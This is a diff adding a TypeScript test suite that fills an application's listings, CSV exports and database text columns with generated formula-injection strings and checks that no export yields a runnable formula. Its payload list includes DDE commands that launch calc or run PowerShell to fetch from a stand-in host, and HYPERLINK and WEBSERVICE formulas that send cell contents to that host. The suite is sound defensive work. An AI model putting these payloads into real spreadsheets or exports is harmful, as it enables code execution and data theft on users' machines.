@@ -1,0 +1,430 @@
+// Texts that a spreadsheet program would run, in every cell that any export writes: in the listings
+// themselves, found by their declarations, and in the files of every call over a database whose
+// texts are all hostile. The long run: FORMULA_TEXTS=10000.
+import { globSync } from 'node:fs'
+import { pathToFileURL } from 'node:url'
+
+import type { FastifyInstance, LightMyRequestResponse } from 'fastify'
+import { readXlsx, writeXlsx } from 'hucre/xlsx'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+
+import type { AnyColumn } from '#listing/definition.ts'
+import { exportListingAsCsv, exportRows } from '#listing/server/export.ts'
+import { localDate } from '#values/local-date.ts'
+
+import { fixedDayClock } from '../work/clock.ts'
+import { committedDatabase } from '#testing/test-database.ts'
+import { inTransaction, type Tx } from '../database/connection.ts'
+import { authenticator, featureRoutes } from '../features.ts'
+import type { FileAnswer } from './file-answer.ts'
+import { testApp } from '#testing/test-app.ts'
+import { addPerson, addTwoMalls, type TwoMalls } from '#testing/test-malls.ts'
+import { requestOf, samples, targetsOf } from '#testing/test-samples.ts'
+
+const database = committedDatabase()
+const count = Number(process.env['FORMULA_TEXTS'] ?? 500)
+let state = Number(process.env['FORMULA_SEED'] ?? 20_261_118)
+const chance = (below: number) => {
+  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
+  return Math.floor((state / 2 ** 32) * below)
+}
+const one = <T>(list: readonly T[]): T => list[chance(list.length)] as T
+
+const before = [
+  '',
+  '',
+  '',
+  ' ',
+  '  ',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  '\u00a0',
+  '\u200b',
+  '\ufeff',
+  '\u2003',
+  '\u0001',
+  '\u000b',
+]
+const signs = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\uff1d',
+  '\uff0b',
+  '\uff0d',
+  '\uff20',
+  '==',
+  '=+',
+  '-+',
+  '\t=',
+  '\n@',
+]
+const bodies = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'cmd|"/c powershell iwr mau.example"!_xlbgnm.A1',
+  'SUM(1+1)*cmd|calc!A1',
+  'HYPERLINK("http://mau.example?"&A1,"clique")',
+  'WEBSERVICE("http://mau.example/"&A1)',
+  'IMPORTXML("http://mau.example","//a")',
+  'DDE("cmd";"/C calc";"x")',
+  '2+3";=1+1;"',
+  '1;=2+2\r\n=3+3',
+  '"&"<f>1+1</f>',
+  ']]><f>1+1</f>',
+  "'=1+1",
+  'R1C1',
+  '\ud83d\ude42\ud800',
+]
+const hostileText = (index: number) => `${one(before)}${one(signs)}${one(bodies)}${index}`
+const hostile = Array.from({ length: count }, (_, index) => hostileText(index))
+
+/**
+ * What a spreadsheet program takes for a formula, blanks before it included; and what OWASP names
+ * besides.
+ */
+const runs = /^[\s\u200b\ufeff\u0000-\u001f]*[=+\-@\uff0b\uff0d\uff1d\uff20]|^[\t\r\n]/u
+
+const bytesOf = async (pieces: AsyncIterable<Uint8Array>) => {
+  const all: Uint8Array[] = []
+  for await (const piece of pieces) all.push(piece)
+  return Buffer.concat(all)
+}
+
+/** A CSV as a spreadsheet program reads it: quotes, semicolons and lines inside of quotes. */
+function csvCells(text: string): string[][] {
+  const lines: string[][] = [[]]
+  const cell = /(?:"((?:[^"]|"")*)"|([^;\r\n]*))(;|\r\n|\r|\n|$)/y
+  for (cell.lastIndex = 0; cell.lastIndex < text.length;) {
+    const [, quoted, plain = '', end] = cell.exec(text) ?? [
+      undefined,
+      undefined,
+      text.slice(cell.lastIndex),
+      '',
+    ]
+    if (cell.lastIndex === 0) break
+    lines.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
+    if (end !== ';') lines.push([])
+  }
+  return lines
+}
+
+/** The texts of a spreadsheet; it must hold no formula, whatever its cells say. */
+async function sheetTexts(bytes: Buffer): Promise<string[]> {
+  const { sheets } = await readXlsx(bytes)
+  const formulas = sheets.flatMap(({ cells }) =>
+    [...(cells?.values() ?? [])].filter(({ formula }) => formula !== undefined),
+  )
+  expect(formulas).toEqual([])
+  return sheets
+    .flatMap(({ rows }) => rows.flat())
+    .filter((value): value is string => typeof value === 'string')
+}
+
+let cellsSeen = 0
+function expectHarmless(texts: readonly string[], about: string): void {
+  cellsSeen += texts.length
+  expect(
+    texts.filter((text) => runs.test(text)),
+    about,
+  ).toEqual([])
+}
+
+describe('what looks for formulas', () => {
+  test.each(['=1', '  +1', '-cmd', '@SUM(1)', '\tx', '\r=1', '\uff1d1', '\u00a0=1'])(
+    'sees %j',
+    (text) => {
+      expect(() => expectHarmless(['fine', text], 'seen')).toThrow('seen')
+    },
+  )
+
+  test('sees a formula in a spreadsheet, whatever its text is', async () => {
+    const bytes = await writeXlsx({
+      sheets: [
+        { name: 'Plan1', rows: [['a']], cells: new Map([['0,0', { formula: '1+1', value: 2 }]]) },
+      ],
+    })
+    await expect(sheetTexts(Buffer.from(bytes))).rejects.toThrow('to deeply equal')
+  })
+})
+
+type DeclaredList = {
+  readonly name: string
+  readonly columns: readonly AnyColumn[]
+  readonly sortedBy: string
+  readonly title: string
+}
+const isListing = (value: unknown): value is DeclaredList =>
+  typeof value === 'object' &&
+  value !== null &&
+  'columns' in value &&
+  'sortedBy' in value &&
+  'search' in value
+
+/**
+ * Every listing that a feature declares, those that a function makes for one profile or cycle
+ * included.
+ */
+async function declaredListings(): Promise<DeclaredList[]> {
+  const found = new Map<string, DeclaredList>()
+  for (const file of globSync('src/features/*/contract{.ts,/*.ts}')) {
+    const module = (await import(pathToFileURL(file).href)) as Record<string, unknown>
+    for (const value of Object.values(module)) {
+      const made: unknown =
+        typeof value === 'function' && value.length <= 1 ? attempt(value as () => unknown) : value
+      if (isListing(made)) found.set(made.name, made)
+    }
+  }
+  return [...found.values()]
+}
+function attempt(make: (argument?: unknown) => unknown): unknown {
+  try {
+    return make('11/2026')
+  } catch {
+    return undefined
+  }
+}
+
+const numeric = new Set(['money', 'number', 'percent'])
+/** A row of a listing: numbers where it counts, below zero too, and the text everywhere else. */
+function rowOf({ columns }: DeclaredList, text: string): Record<string, unknown> {
+  const row: Record<string, unknown> = {}
+  for (const { of, as = 'text' } of columns) {
+    const [head = '', tail] = of.split('.')
+    const value = numeric.has(as)
+      ? -100
+      : as === 'instant'
+        ? new Date('2026-11-18T12:00:00Z')
+        : text
+    if (tail === undefined) row[head] = value
+    else row[head] = { ...(row[head] as object | undefined), [tail]: value }
+  }
+  return row
+}
+
+describe('a listing', () => {
+  let listings: DeclaredList[] = []
+  beforeAll(async () => {
+    listings = await declaredListings()
+  })
+  const about = {
+    title: '=1+1',
+    user: '@SUM(1)',
+    at: new Date('2026-11-18T12:00:00Z'),
+    filterWords: ['+1', '=2'],
+  }
+  const inside = <T>(act: (tx: Tx) => Promise<T>) =>
+    inTransaction(database.app, { malls: 'all' }, act)
+  const written = (file: FileAnswer) => inside((tx) => bytesOf(file.open(tx)))
+
+  test('is found by its declaration', () => expect(listings.length).toBeGreaterThan(10))
+
+  test(`as a spreadsheet runs none of ${count} texts in any column, keeps each, and its numbers stay numbers`, async () => {
+    for (const listing of listings) {
+      const rows = hostile.map((text) => rowOf(listing, text))
+      const bytes = await written(exportRows(listing, rows, undefined, about))
+      const texts = await sheetTexts(bytes)
+      expectHarmless(texts, listing.name)
+      const exportedColumns = listing.columns.filter(({ only }) => only !== 'screen')
+      const asText = exportedColumns.filter(({ as = 'text' }) =>
+        ['text', 'name', 'mall', 'code'].includes(as),
+      ).length
+      if (asText > 0) expect(texts.length, listing.name).toBeGreaterThanOrEqual(count * asText)
+      const { sheets } = await readXlsx(bytes)
+      const numbers = (sheets[0]?.rows ?? [])
+        .flat()
+        .filter((value) => typeof value === 'number' && value < 0)
+      const countedCount = exportedColumns.filter(({ as = 'text' }) => numeric.has(as)).length
+      expect(numbers.length, listing.name).toBeGreaterThanOrEqual(count * countedCount)
+    }
+  }, 120_000)
+
+  test(`as CSV runs none of ${count} texts either`, async () => {
+    const [listing] = listings.filter(({ columns }) => columns.every(({ of }) => !of.includes('.')))
+    for (const { name, columns } of listing ? [listing] : []) {
+      const { sql } = await import('kysely')
+      const texts = sql`
+        (
+          select t, i
+          from unnest(
+            ${hostile.map((text) => text.toWellFormed().replaceAll('\u0000', ''))}::text[]
+          )
+          with ordinality as h (t, i)
+        ) h`
+      const file = exportListingAsCsv(
+        { name, columns, sortedBy: '' },
+        {
+          from: texts,
+          columns: Object.fromEntries(
+            columns.map(({ of, as = 'text' }) => [of, numeric.has(as) ? sql`-100` : sql`h.t`]),
+          ),
+          sorts: {},
+          filters: {},
+          key: sql`h.i`,
+        } as never,
+        {},
+        about,
+      )
+      const cells = csvCells((await written(file)).toString('utf8').replace(/^\ufeff/, ''))
+      expectHarmless(
+        cells
+          .slice(1)
+          .flat()
+          .filter((cell) => !/^-\d+(,\d+)?$/.test(cell)),
+        name,
+      )
+      expect(cells.length, name).toBeGreaterThanOrEqual(count)
+    }
+  }, 60_000)
+})
+
+describe('a database whose every text is hostile', () => {
+  const routes = featureRoutes({
+    access: { identity: { kind: 'demo' }, supportUrl: undefined, version: '1', environment: 'dev' },
+  })
+  const calls = routes.map(({ call }) => call)
+  const files = calls.filter(
+    ({ effect, answer, access }) =>
+      effect === 'read' && answer === undefined && access !== 'public',
+  )
+  let app: FastifyInstance
+  let world: TwoMalls
+  let token: string
+  let filled: string[] = []
+
+  /** Overwrites each text column that the constraints leave free, a text of its own in each row. */
+  async function fill(): Promise<string[]> {
+    const { rows } = await database.adminPool.query<{
+      name: string
+      field: string
+      several: boolean
+    }>(
+      `
+        select c.table_name as name, c.column_name as field, c.udt_name = '_text' as several
+        from information_schema.columns c
+         join information_schema.tables t using (table_schema, table_name)
+       where table_schema = 'public'
+         and table_type = 'BASE TABLE'
+         and udt_name in ('text', '_text')
+         and is_generated = 'NEVER'
+         and (
+           table_name in ('mall', 'company', 'collection_group', 'app_user') or exists (
+             select from information_schema.columns m
+           where m.table_schema = 'public'
+             and m.table_name = c.table_name
+             and m.column_name = 'mall_id')
+             or table_name in (
+               'erp_load_issue', 'notice_load_issue', 'exception_record', 'file_import',
+               'file_import_issue', 'contract_type', 'movement_type', 'document_type'))
+         and table_name not in ('audit_entry', 'user_mall') and column_name <> 'media_type'
+         order by 1, 2`,
+    )
+    const done: string[] = []
+    const texts = hostile.map((text) => text.toWellFormed())
+    for (const { name, field, several } of rows) {
+      const text = '($1::text[])[1 + (r.n + $3) % $2] || r.n'
+      const placed = await database.adminPool
+        .query(
+          `update ${name} t set ${field} = ${several ? `array[${text}]` : text} from (select ctid, row_number() over () as n from ${name}) r where t.ctid = r.ctid`,
+          [texts, texts.length, chance(count)],
+        )
+        .catch(() => undefined)
+      if ((placed?.rowCount ?? 0) > 0) done.push(`${name}.${field}`)
+    }
+    return done
+  }
+
+  beforeAll(async () => {
+    app = await testApp({
+      db: database.app,
+      routes,
+      clock: fixedDayClock(localDate('2026-11-18')),
+      authenticate: authenticator({ db: database.app, secureCookies: false }),
+    })
+    world = await addTwoMalls(database.adminPool)
+    await database.adminPool.query(`
+      insert into profile (name, code, sees_every_mall) values ('=TUDO', 'TUDO', true);
+      insert into exception_record (
+        list, document_type_id, cost_center, number, competence_year, economic_unit, module_ids,
+          mall_ids, note, created_by_name, updated_by_name
+      )
+      select list, case list when 'tipo-documento' then (select min(id) from document_type) end,
+        case list when 'centro-lucro' then '1001' else '' end,
+        case list
+          when 'numero-documento' then '1'
+          else ''
+        end, case list
+          when 'numero-documento' then 2026
+        end,
+        case list
+          when 'numero-documento' then '1'
+          else ''
+        end, '{1}', (select array_agg(id) from mall), 'x', 'x', 'x'
+      from unnest(array['tipo-documento', 'centro-lucro', 'numero-documento']) as lists (list);
+      insert into profile_permission (profile_id, rule_id)
+      select p.id, r.id
+      from profile p, menu_rule r
+      where p.code = 'TUDO'`)
+    // What the sample of the export of a sending's rest names.
+    await database.adminPool.query(`
+      insert into unsent_boleto (sending_id, mall_id, item_id, kind, code, reason, stays)
+      select '00000000-0000-4000-8000-000000000001', mall_id, id, 'BLOQUEADO', 'G08', 'x', false
+      from negativation_item
+      limit 20`)
+    token = (await addPerson(database.adminPool, 'tudo', 'TUDO', [])).token
+    filled = await fill()
+  }, 60_000)
+  afterAll(() => app.close())
+
+  async function textsOf({
+    headers,
+    rawPayload,
+    body,
+  }: LightMyRequestResponse): Promise<string[] | undefined> {
+    const kind = String(headers['content-type'])
+    if (kind.includes('spreadsheet')) return sheetTexts(rawPayload)
+    if (kind.startsWith('text/csv')) return csvCells(body.replace(/^\ufeff/, '')).flat()
+    return undefined
+  }
+
+  test('has hostile texts in the columns that exports show', () => {
+    expect(filled.length).toBeGreaterThan(30)
+    for (const field of [
+      'mall.name',
+      'negativation_item.trade_name',
+      'negativation_item.observation',
+      'item_person.name',
+      'erp_load_issue.row_text',
+    ])
+      expect(filled).toContain(field)
+  })
+
+  // asvs: 1.2.10
+  test('comes out of every export without one formula', async () => {
+    const seen: string[] = []
+    for (const call of files) {
+      for (const target of [targetsOf(world).own, targetsOf(world).absent]) {
+        const answer = await app.inject(requestOf(call, samples[call.name]?.(target) ?? {}, token))
+        expect([200, 404, 409], `${call.name}: ${answer.body.slice(0, 200)}`).toContain(
+          answer.statusCode,
+        )
+        const texts = answer.statusCode === 200 ? await textsOf(answer) : undefined
+        if (!texts) continue
+        expectHarmless(texts, call.name)
+        if (texts.some((text) => text.startsWith("'"))) seen.push(call.name)
+      }
+    }
+    // What would hold of an export without rows says nothing.
+    const sheets = files
+      .filter(({ name }) => /download/.test(name) && !/Dossier/.test(name))
+      .map(({ name }) => name)
+    expect(sheets.length).toBeGreaterThan(5)
+    expect(sheets.filter((name) => !seen.includes(name))).toEqual([])
+  }, 60_000)
+})
+
+test('ten thousand cells at least were looked at', () =>
+  expect(cellsSeen).toBeGreaterThanOrEqual(10_000))
